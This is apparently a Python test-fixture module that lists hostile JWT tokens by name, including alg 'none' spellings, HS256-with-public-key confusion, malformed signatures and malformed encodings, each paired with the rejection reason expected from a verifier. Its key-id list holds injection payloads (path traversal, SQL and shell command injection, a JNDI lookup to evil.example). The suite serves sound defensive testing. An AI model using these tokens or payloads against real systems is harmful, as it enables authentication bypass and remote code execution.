"""Hostile tokens by name, with the reason that each must get: the envelope and the signature.

Classes of RFC 8725, RFC 7515 and of the attacks that JWT libraries are known for.
"""

import json
from base64 import urlsafe_b64decode
from collections.abc import Callable
from itertools import product
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from msgspec import Struct

from tests.credentials import forge
from tests.credentials.forge import (
    CLAIMS,
    GONE,
    HEADER,
    always,
    b64,
    claiming,
    compact,
    ec_key,
    ed,
    es,
    from_house,
    from_legacy,
    from_partner,
    heading,
    hs,
    ps,
    rs,
    rsa_key,
    token,
)


class Case(Struct, frozen=True):
    """One hostile token."""

    name: str
    """What it tries."""
    make: Callable[[], str]
    """Mints it."""
    reason: str
    """The one answer that is right."""


def rows(reason: str, *cases: tuple[str, Callable[[], str]]) -> tuple[Case, ...]:
    """Cases that share their answer."""
    return tuple(Case(name, make, reason) for name, make in cases)


N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ORDER = N.to_bytes(32, "big")


def cut() -> tuple[str, str, str]:
    """The three parts of an honest token."""
    header, claims, signature = token().split(".")
    return header, claims, signature


def patched(part: int, change: Callable[[str], str]) -> Callable[[], str]:
    """An honest token with one part respelt."""

    def make() -> str:
        parts = list(cut())
        parts[part] = change(parts[part])
        return ".".join(parts)

    return make


def respelt(change: Callable[[str], str], part: int) -> Callable[[], str]:
    """A token whose *signer* respelt a part: the signature is over the respelling."""

    def make() -> str:
        parts = [b64(compact(HEADER)).decode(), b64(compact(CLAIMS)).decode()]
        parts[part] = change(parts[part])
        signed = ".".join(parts)
        return f"{signed}.{b64(es()(signed.encode())).decode()}"

    return make


def loose_bits(part: str) -> str:
    """The same bytes with a bit set that decoders throw away; a letter less makes room for it."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    if len(part) % 4 == 0:
        return part + "A"
    return part[:-1] + alphabet[alphabet.index(part[-1]) + 1]


def pem(form: PublicFormat = PublicFormat.SubjectPublicKeyInfo, der: bool = False) -> bytes:
    """The partner's public key, as everybody can have it."""
    encoding = Encoding.DER if der else Encoding.PEM
    return rsa_key().public_key().public_bytes(encoding, form)


def confused(secret: bytes) -> Callable[[], str]:
    """HS256 with a public key as the secret, to an issuer that signs with RS256."""
    return lambda: from_partner({"alg": "HS256"}, sign=hs(secret))


def algorithm(value: Any) -> Callable[[], str]:
    """A rightly signed token that names its algorithm so."""
    return lambda: heading(alg=value)


def unsigned(value: str) -> Callable[[], str]:
    """A token without signature that says so."""
    return lambda: token({"alg": value}, sign=always(b""))


ALGORITHM = (
    *rows(
        "token_algorithm",
        *((f"alg {word!r}, unsigned", unsigned(word)) for word in (
            "none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "null", "", "nоne",
        )),
        *((f"alg {value!r}", algorithm(value)) for value in (
            "es256", "Es256", "ES256 ", " ES256", "ES256\n", "ES256\x00", "ES-256", "ES25",
            "ES256K", "SHA256", "RS256", "PS256", "HS256", "HS1", "ESP256", "A128KW", "ＥＳ256",
            None, True, False, 0, 256, 1.5, ["ES256"], [], {}, {"ES256": 1}, ["ES256", "none"],
        )),
        ("alg missing", lambda: heading(alg=GONE)),
        ("alg dir", algorithm("dir")),
        ("alg RSA1_5", algorithm("RSA1_5")),
        ("HS256 with the public PEM", confused(pem())),
        ("HS256 with the public PEM, stripped", confused(pem().strip())),
        ("HS256 with the PEM, CRLF", confused(pem().replace(b"\n", b"\r\n"))),
        ("HS256 with the PEM on one line", confused(pem().replace(b"\n", b""))),
        ("HS256 with the PKCS1 PEM", confused(pem(PublicFormat.PKCS1))),
        ("HS256 with the public DER", confused(pem(der=True))),
        ("HS256 with the PKCS1 DER", confused(pem(PublicFormat.PKCS1, der=True))),
        ("HS256 with the public JWK", confused(compact(forge.public_jwk("k1", rsa_key())))),
        ("HS256 with n", confused(rsa_key().public_key().public_numbers().n.to_bytes(256, "big"))),
        ("HS256 with an empty key", confused(b"")),
        ("HS256 with a zero key", confused(bytes(32))),
        ("HS256 with the key id", confused(b"k1")),
        ("sibling HS384, right secret",
         lambda: from_house({"alg": "HS384"}, sign=hs(digest="sha384"))),
        ("sibling HS512, right secret",
         lambda: from_house({"alg": "HS512"}, sign=hs(digest="sha512"))),
        ("sibling PS256, right key", lambda: from_partner({"alg": "PS256"}, sign=ps())),
        ("sibling RS384, right key",
         lambda: from_partner({"alg": "RS384"}, sign=rs(digest=hashes.SHA384()))),
        ("sibling RS512, right key",
         lambda: from_partner({"alg": "RS512"}, sign=rs(digest=hashes.SHA512()))),
        ("sibling ES384 over P-256",
         lambda: token({"alg": "ES384"}, sign=es(digest=hashes.SHA384()))),
        ("an algorithm of the ring, not of the identity",
         lambda: token({"alg": "EdDSA", "kid": "ed"}, sign=ed())),
    ),
)  # fmt: skip

SIGNATURE = rows(
    "token_signature",
    ("signature stripped", patched(2, lambda s: "")),
    ("signature cut by three bytes", patched(2, lambda s: b64(_raw(s)[:-3]).decode())),
    ("half a signature", patched(2, lambda s: b64(_raw(s)[:32]).decode())),
    ("signature longer by three bytes", patched(2, lambda s: b64(_raw(s) + b"\0\0\0").decode())),
    ("signature with a leading zero", patched(2, lambda s: b64(b"\0" + _raw(s)).decode())),
    ("signature of zeros", lambda: token(sign=always(bytes(64)))),
    ("signature of ones", lambda: token(sign=always(b"\xff" * 64))),
    ("r = 0", lambda: token(sign=lambda m: bytes(32) + es()(m)[32:])),
    ("s = 0", lambda: token(sign=lambda m: es()(m)[:32] + bytes(32))),
    ("r = s = 1", lambda: token(sign=always((bytes(31) + b"\1") * 2))),
    ("r = s = n", lambda: token(sign=always(ORDER * 2))),
    ("r = n, s = 1", lambda: token(sign=always(ORDER + bytes(31) + b"\1"))),
    ("r + n", lambda: token(sign=lambda m: _plus_order(es()(m)))),
    ("DER form", lambda: token(sign=forge.es_der)),
    ("r and s swapped", lambda: token(sign=lambda m: es()(m)[32:] + es()(m)[:32])),
    ("over the claims alone", lambda: token(sign=lambda m: es()(m.split(b".")[1]))),
    ("over another digest", lambda: token(sign=es(digest=hashes.SHA512()))),
    ("by a stranger's key", lambda: token(sign=es(ec_key(number=1)))),
    ("of another token", patched(2, lambda s: claiming(sub="bob").split(".")[2])),
    ("claims of another token", patched(1, lambda s: claiming(sub="root").split(".")[1])),
    ("header of another token", patched(0, lambda s: heading(x="y").split(".")[0])),
    ("one bit of it", patched(2, lambda s: ("B" if s[0] == "A" else "A") + s[1:])),
    ("HMAC by a stranger", lambda: from_house(sign=hs(forge.OTHER_SECRET))),
    ("HMAC with no secret", lambda: from_house(sign=hs(b""))),
    ("HMAC cut to 16 bytes", lambda: from_house(sign=lambda m: hs()(m)[:16])),
    ("HMAC stripped", lambda: from_house(sign=always(b""))),
    ("HMAC in hex", lambda: from_house(sign=lambda m: hs()(m).hex().encode())),
    *((f"HMAC with {secret!r}", (lambda s: lambda: from_house(sign=hs(s)))(secret))
      for secret in (b"secret", b"changeme", b"your-256-bit-secret", b"k1", bytes(32))),
    ("RSA by a stranger", lambda: from_partner(sign=rs(rsa_key(1)))),
    ("RSA of zeros", lambda: from_partner(sign=always(bytes(256)))),
    ("RSA of one", lambda: from_partner(sign=always(bytes(255) + b"\1"))),
    ("RSA with a leading zero", lambda: from_partner(sign=lambda m: b"\0" + rs()(m))),
    ("RSA plus n", lambda: from_partner(sign=lambda m: _plus_modulus(rs()(m)))),
    ("PSS where PKCS1 is due", lambda: from_partner(sign=ps())),
    ("RSA stripped", lambda: from_partner(sign=always(b""))),
    ("Ed25519 by a stranger", lambda: from_legacy(sign=ed(forge.ed_key(5)))),
    ("Ed25519 of zeros", lambda: from_legacy(sign=always(bytes(64)))),
    ("Ed25519 with s + L", lambda: from_legacy(sign=lambda m: _plus_l(ed()(m)))),
    ("the partner's key for our issuer", lambda: token(sign=always(rs()(b"")[:64]))),
    ("our key for the legacy issuer",
     lambda: from_legacy({"kid": "k1"}, sign=lambda m: es()(m))),
)  # fmt: skip

KEY = rows(
    "token_key",
    *((f"kid {kid[:24]!r} of {len(kid)}", (lambda k: lambda: heading(kid=k))(kid)) for kid in (
        "", "k2", "K1", "k1 ", " k1", "k1\x00", "\x00", "../../../../dev/null", "/dev/null",
        "/proc/sys/kernel/randomize_va_space", "file:///etc/passwd", "http://evil.example/k1",
        "' UNION SELECT 'secret' -- ", "k1' OR '1'='1", "$(id)", "|id", "`id`", "%00", "k" * 257,
        "k" * 9000, "ｋ1", "__class__", "{0}", "${jndi:ldap://evil.example/a}",
    )),
    *((f"kid {kid!r}", (lambda k: lambda: heading(kid=k))(kid)) for kid in (
        None, 1, 0, 1.5, True, False, ["k1"], [], {}, {"k1": "k1"},
    )),
    ("kid of another identity", lambda: from_house({"kid": "ed"})),
    ("kid of a key for another algorithm", lambda: heading(kid="ed")),
)  # fmt: skip

PARTS = rows(
    "token_malformed",
    ("empty", lambda: ""),
    ("a dot", lambda: "."),
    ("two dots", lambda: ".."),
    ("three dots", lambda: "..."),
    ("one part", lambda: cut()[0]),
    ("two parts", lambda: ".".join(cut()[:2])),
    ("four parts", lambda: token() + "."),
    ("four full parts", lambda: token() + "." + cut()[2]),
    ("five parts, a JWE", lambda: token() + ".AAAA.AAAA"),
    ("empty header", patched(0, lambda s: "")),
    ("empty claims", patched(1, lambda s: "")),
    ("a dot before", lambda: "." + token()),
    ("JSON serialisation, flattened", lambda: json.dumps(
        dict(zip(("protected", "payload", "signature"), cut(), strict=True)))),
    ("JSON serialisation, general", lambda: json.dumps(
        {"payload": cut()[1], "signatures": [{"protected": cut()[0], "signature": cut()[2]}]})),
    ("two tokens, a comma", lambda: f"{token()},{token()}"),
    ("two tokens, a space", lambda: f"{token()} {token()}"),
    ("its scheme", lambda: f"Bearer {token()}"),
    ("quoted", lambda: f'"{token()}"'),
    ("a line end after", lambda: token() + "\n"),
    ("a space before", lambda: " " + token()),
    ("a NUL after", lambda: token() + "\x00"),
    ("a NUL inside", patched(1, lambda s: s[:4] + "\x00" + s[4:])),
    ("a byte order mark before", lambda: "\ufeff" + token()),
    ("full-width letters", lambda: token().replace("e", "ｅ", 1)),
    ("full-width dots", lambda: token().replace(".", "．")),
    ("a lone surrogate", lambda: token() + "\ud800"),
    ("lone surrogates only", lambda: "\ud800.\udfff.\ud800"),
    ("an empty reference", lambda: "null"),
    ("20 kB of key id", lambda: heading(kid="k" * 20000)),
    ("60 kB", lambda: claiming(pad="x" * 45000)),
    ("10 MB", lambda: "A" * 10_000_000),
    ("10 MB of dots", lambda: "." * 10_000_000),
    ("just over the bound", lambda: claiming(pad="x" * 12000)),
)  # fmt: skip

SPELLINGS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("padded", lambda s: s + "=" * (-len(s) % 4 or 4)),
    ("padded once", lambda s: s + "="),
    ("loose bits", loose_bits),
    ("a single letter too many", lambda s: s + "A" * ((1 - len(s)) % 4 or 4)),
    ("a space inside", lambda s: s[:4] + " " + s[4:]),
    ("a line end inside", lambda s: s[:4] + "\n" + s[4:]),
    ("a tab after", lambda s: s + "\t"),
    ("a star inside", lambda s: s[:4] + "*" + s[4:]),
    ("a percent sign", lambda s: s[:4] + "%41" + s[4:]),
    ("plus for minus", lambda s: s[:-4] + "+" + s[-3:]),
    ("slash for underline", lambda s: s[:-4] + "/" + s[-3:]),
)

BASE64 = rows(
    "token_malformed",
    *(
        (f"{('header', 'claims', 'signature')[part]} {name}", patched(part, change))
        for part, (name, change) in product((0, 1, 2), SPELLINGS)
    ),
    *(
        (f"{('header', 'claims')[part]} {name}, signed so", respelt(change, part))
        for part, (name, change) in product((0, 1), SPELLINGS)
    ),
)


def _raw(text: str) -> bytes:
    return urlsafe_b64decode(text + "==")


def _plus_order(signature: bytes) -> bytes:
    r = int.from_bytes(signature[:32], "big") + N
    return r.to_bytes(33, "big") + signature[32:]


def _plus_modulus(signature: bytes) -> bytes:
    n = rsa_key().public_key().public_numbers().n
    return (int.from_bytes(signature, "big") + n).to_bytes(257, "big")


def _plus_l(signature: bytes) -> bytes:
    order = 2**252 + 27742317777372353535851937790883648493
    s = int.from_bytes(signature[32:], "little") + order
    return signature[:32] + s.to_bytes(32, "little")


ENVELOPE = (*ALGORITHM, *SIGNATURE, *KEY, *PARTS, *BASE64)
